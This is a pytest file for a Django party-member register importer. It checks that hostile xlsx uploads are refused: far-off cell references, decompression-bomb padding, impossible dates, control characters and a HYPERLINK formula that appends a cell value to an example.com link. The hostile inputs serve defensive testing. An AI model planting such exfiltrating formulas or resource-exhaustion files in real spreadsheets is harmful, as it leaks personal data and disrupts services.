"""Hostile member registers, through the command line and the web upload: each is refused with its
problem named by row and column, quickly and in little memory, and nothing is written."""

import html
import re
import time
import tracemalloc
from io import BytesIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from dangjian.accounts.access import access_for
from dangjian.members import importing
from dangjian.members.importing import HEADERS
from dangjian.members.models import Member

from .sheets import Date, Error, Formula, Number, cells, member_sheet, raw_xlsx, row, upload, valid_id

pytestmark = pytest.mark.django_db


@pytest.fixture(params=["cli", "web"])
def refused(request, world, tmp_path, capsys, client_for):
    """Import through one path; the problems as the user reads them ("第2行「姓名」：…"); asserts nothing
    was written."""

    def run(content: bytes) -> list[str]:
        before = (Member.objects.count(), Member.history.count())
        if request.param == "cli":
            path = tmp_path / "名册.xlsx"
            path.write_bytes(content)
            with pytest.raises(CommandError, match="文件未导入"):
                call_command("import-members", str(path), "--as", "secretary_a")
            problems = capsys.readouterr().err.strip().splitlines()
        else:
            response = client_for("secretary_a").post("/members/import/", {"file": upload(content)})
            assert response.status_code == 200
            rows = re.findall(
                r"<tr><td>(.*?)</td><td>(.*?)</td><td>(.*?)</td></tr>", response.content.decode()
            )
            problems = []
            for where, column, message in (map(html.unescape, r) for r in rows):
                column = "" if column == "—" else f"「{column}」"
                problems.append(f"{'文件' if where == '—' else f'第{where}行'}{column}：{message}")
        assert (Member.objects.count(), Member.history.count()) == before
        return problems

    return run


def test_a_cell_far_beyond_the_template_is_refused_fast_and_in_little_memory(world, refused):
    """AAAAAAA2 made the reader build a row 8 billion cells wide (29 s and 2.95 GB for one 8 KB file)."""
    content = raw_xlsx(("党员名册", [cells(1, HEADERS), cells(2, [("A2", "王小明"), ("AAAAAAA2", "x")])]))
    scope = access_for(world.user("secretary_a")).manageable_orgs()
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(importing.ImportRefused):
        importing.import_members(BytesIO(content), scope)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 0.5 and peak < 5 * 1024 * 1024, (elapsed, peak)
    assert refused(content) == [
        "第2行：AAAAAAA2 单元格有内容，但模板只有 16 列（A 到 P 列）；请删除模板以外的列后重新上传。"
    ]


def test_a_value_in_a_column_after_the_template_is_refused(refused):
    content = raw_xlsx(("党员名册", [cells(1, [*HEADERS, "备注"])]))
    assert refused(content) == [
        "第1行：Q1 单元格有内容，但模板只有 16 列（A 到 P 列）；请删除模板以外的列后重新上传。"
    ]


def test_rows_beyond_the_limit_are_refused(refused, settings):
    settings.IMPORT_MAX_ROWS = 3
    content = member_sheet(*(row(身份证号=valid_id(seq=n)) for n in range(1, 5)))
    assert refused(content) == ["第5行：表格的数据超过 3 行（不含表头），请分成几个文件分批导入。"]


def test_a_part_that_unpacks_too_large_is_refused_before_reading(refused, settings):
    settings.IMPORT_MAX_UNPACKED_MB = 1
    padding = "<row/>" * 200_000  # 1.2 MB of empty rows, a few KB packed
    content = raw_xlsx(("党员名册", [cells(1, HEADERS), padding]))
    assert len(content) < 20_000
    assert refused(content) == [
        "文件：文件解压后超过 1 MB，不像是党员名册或活动记录表；"
        "请使用模板填写，数据较多时分成几个文件分批导入。"
    ]


@pytest.mark.parametrize("serial", ["2958466", "-700000", "1E10", "1e400", "-1e400", "inf", "NaN"])
def test_impossible_date_serials_are_refused_by_row_and_column(refused, serial):
    content = member_sheet(row(), row(身份证号=valid_id(seq=2), 入党日期=Date(serial)))
    (problem,) = refused(content)
    assert problem.startswith("第3行「入党日期」：")
    assert f"Excel 日期序号 {serial}）" in problem or f"单元格的数值 {serial} 无效" in problem


def test_lengths_are_checked_against_the_register(refused):
    content = member_sheet(row(姓名="张" * 32767), row(身份证号=valid_id(seq=2), 工作单位及职务="镇" * 201))
    assert refused(content) == [
        "第2行「姓名」：不能超过 50 个字（现有 32767 个字），请精简后重新填写",
        "第3行「工作单位及职务」：不能超过 200 个字（现有 201 个字），请精简后重新填写",
    ]


@pytest.mark.parametrize("number", ["1.1010119800101E+17", "110101198001010010"])
def test_an_id_number_in_a_number_cell_is_refused(refused, number):
    """Excel keeps 15 digits: 1.1010119800101E+17 was stored as 110101198001010000, a valid other number."""
    content = member_sheet(row(身份证号=Number(number)))
    assert refused(content) == [
        "第2行「身份证号」：身份证号被 Excel 存成了数字，末几位已丢失；请把该列设为“文本”格式后重新输入号码"
    ]
    assert not Member.objects.by_id_number("110101198001010000").exists()


def test_repeated_headers_are_refused(refused):
    headers = ["姓名" if h == "民族" else h for h in HEADERS]
    content = member_sheet(row(), headers=headers)
    assert refused(content) == ["第1行「姓名」：表头重复：A列和D列都是“姓名”，请删除多余的一列"]


def test_error_and_boolean_cells_are_refused_where_text_is_expected(refused):
    content = member_sheet(
        row(姓名=Error("#N/A"), 工作单位及职务=True),
        row(身份证号=False, 出生日期=Error("#REF!"), 手机号=Error("#DIV/0!")),
    )
    assert refused(content) == [
        "第2行「姓名」：单元格是 Excel 错误值 #N/A（多为公式出错），请改为填写内容本身",
        "第2行「工作单位及职务」：单元格是逻辑值（TRUE/FALSE），这里应填写文字",
        "第3行「身份证号」：单元格是逻辑值（TRUE/FALSE），这里应填写文字",
        "第3行「出生日期」：单元格是 Excel 错误值 #REF!（多为公式出错），请改为填写内容本身",
        "第3行「手机号」：单元格是 Excel 错误值 #DIV/0!（多为公式出错），请改为填写内容本身",
    ]


def test_a_duplicate_row_names_both_rows_when_rows_carry_no_numbers(refused):
    """Row and cell references are optional in a sheet; some programs leave them out."""
    content = member_sheet(row(), row(姓名="李四"), refs=False)
    assert refused(content) == ["第3行「身份证号」：与第2行重复"]


def test_a_duplicate_row_is_named_even_when_the_first_has_other_problems(refused):
    content = member_sheet(row(入党日期="去年"), row(姓名="李四"))
    assert refused(content) == [
        "第2行「入党日期」：日期格式应为 2020-07-01",
        "第3行「身份证号」：与第2行重复",
    ]


def test_formulas_and_control_characters_are_refused_in_names_and_text(refused):
    content = member_sheet(
        row(姓名='=HYPERLINK("http://example.com/?"&B2,"王小明")'),
        row(身份证号=valid_id(seq=2), 姓名="王_x001B_明"),
        row(身份证号=valid_id(seq=3), 工作单位及职务="镇政府_x000B_科员"),
    )
    assert refused(content) == [
        "第2行「姓名」：姓名只能包含汉字、字母和间隔号“·”，不能有数字或符号（第1个字符“=”）",
        "第3行「姓名」：姓名含有不可见的控制字符（第2个字符，U+001B），通常来自复制粘贴，请删除后重新填写",
        "第4行「工作单位及职务」：含有不可见的控制字符（第4个字符，U+000B），通常来自复制粘贴，请删除后重新填写",
    ]


def test_a_formula_without_its_value_is_refused_as_a_formula(refused):
    """openpyxl writes a name typed as =HYPERLINK(…) as a formula with an empty value; the message said
    "单元格的数值  无效" (quoting nothing) instead of what was wrong."""
    content = member_sheet(
        row(姓名=Formula('HYPERLINK("http://example.com/?"&B2,"王小明")')),
        row(身份证号=valid_id(seq=2), 工作单位及职务=Formula("A1&B1")),
    )
    assert refused(content) == [
        "第2行「姓名」：单元格是公式且没有计算结果，请改为填写内容本身",
        "第3行「工作单位及职务」：单元格是公式且没有计算结果，请改为填写内容本身",
    ]


def test_names_of_every_kind_import(world):
    names = ["阿依古丽·买买提", "𠀾明", "Jean-Pierre", "李〇"]
    content = member_sheet(*(row(姓名=n, 身份证号=valid_id(seq=i)) for i, n in enumerate(names, start=1)))
    scope = access_for(world.user("secretary_a")).manageable_orgs()
    assert importing.import_members(BytesIO(content), scope).created == 4
    assert set(names) <= set(Member.objects.values_list("name", flat=True))


def test_a_name_registered_before_the_check_is_kept_until_it_is_changed(world, refused):
    member = world.members_a[7]  # the test world's 甲7, registered before names were checked
    same = row(姓名=member.name, 身份证号=member.id_number, 入党日期=f"{member.joined_on}", 转正日期="")
    same.update(
        转正日期=f"{member.confirmed_on or ''}", 所在党小组代码=member.group.code if member.group else ""
    )
    scope = access_for(world.user("secretary_a")).manageable_orgs()
    importing.import_members(BytesIO(member_sheet(same)), scope)  # unchanged: accepted
    assert refused(member_sheet({**same, "姓名": "甲8"})) == [
        "第2行「姓名」：姓名只能包含汉字、字母和间隔号“·”，不能有数字或符号（第2个字符“8”）"
    ]
